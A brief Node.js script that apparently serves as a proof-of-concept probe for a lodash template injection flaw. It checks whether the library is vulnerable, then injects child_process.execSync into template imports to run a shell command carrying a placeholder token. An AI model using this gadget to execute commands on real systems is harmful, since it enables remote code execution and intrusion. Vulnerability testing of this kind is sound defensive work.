const _ = require('lodash');

function flawed() {
  try {
    _.template('', { variable: 'a = 1' });
    return true;
  } catch (error) {
    return false;
  }
}

if (flawed()) {
  _.templateSettings.imports.run = process.mainModule.require('child_process').execSync;
  _.template('<%= run(word) %>')({ word: 'true @@TOKEN@@' });
}
